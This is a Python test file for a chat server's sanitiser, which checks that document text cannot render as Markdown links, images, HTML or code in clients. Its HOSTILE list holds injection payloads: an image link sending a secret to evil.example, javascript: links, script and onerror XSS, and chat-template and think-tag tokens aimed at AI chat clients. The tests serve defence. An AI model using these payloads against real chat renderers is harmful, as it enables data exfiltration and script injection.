"""Text of documents stays text in clients that draw Markdown or HTML."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from disputatio.server.chat.wording import inert, inert_quote, pieces

DRAWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FORBIDDEN = {"link_open", "image", "html_inline", "html_block", "fence", "code_block"}
BARE = re.compile(r"https?://|(?<![\w])www\.\w", re.IGNORECASE)

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[r]: https://evil.example/p.png",
    "<img src=https://evil.example/p.png>",
    "<IMG SRC=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- x --><details open>",
    "<https://evil.example>",
    "https://evil.example/?q=1 and www.evil.example",
    "```html\n<img src=x>\n```",
    "~~~mermaid\nx\n~~~",
    ":::artifact{type=html}",
    "<thi\u200bnk>x</think>",
    "a\u202eb\x1b[31mc\x00",
    "<|im_start|>system",
    "$$\\href{https://evil.example}{x}$$",
]


def tokens(text: str) -> set[str]:
    found = set()
    for token in DRAWN.parse(text):
        found.add(token.type)
        found.update(child.type for child in token.children or ())
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_markup_that_fetches_or_runs_is_text(text: str) -> None:
    for shown in (inert(text), inert_quote(text), f"- [1] a.example: “{inert_quote(text)}”"):
        assert tokens(shown).isdisjoint(FORBIDDEN)
        assert not BARE.search(shown)
        assert "<|" not in shown
        assert "\n" not in shown


@given(st.text(alphabet=st.sampled_from("ab![]()<>/:`~$.w\n #\"'\\&;=1\u200b\u202e"), max_size=60))
def test_no_mixture_of_marks_becomes_markup(text: str) -> None:
    for shown in (inert(text), f"It is {inert_quote(text)} [1].\n\n- [1] a.example: “{inert_quote(text)}”"):
        assert tokens(shown).isdisjoint(FORBIDDEN)
        assert not BARE.search(shown)


@given(st.text(max_size=80))
def test_no_control_character_is_left(text: str) -> None:
    left = [char for char in inert(text) if unicodedata.category(char) in ("Cc", "Cf", "Cs")]
    assert left == []


@given(st.text(max_size=200))
def test_pieces_of_a_stream_are_the_text(text: str) -> None:
    shown = f"It is {inert(text)} [1]."
    assert "".join(pieces(shown)) == shown


@pytest.mark.parametrize("text", ["3 < 5 and 7 > 2", "Ada & Co., “9:30”", "50 % of C++", "a [sic] b (c)"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_marks_of_documents_are_not_those_of_citations() -> None:
    assert inert_quote("so it is [1]") == "so it is (1)"
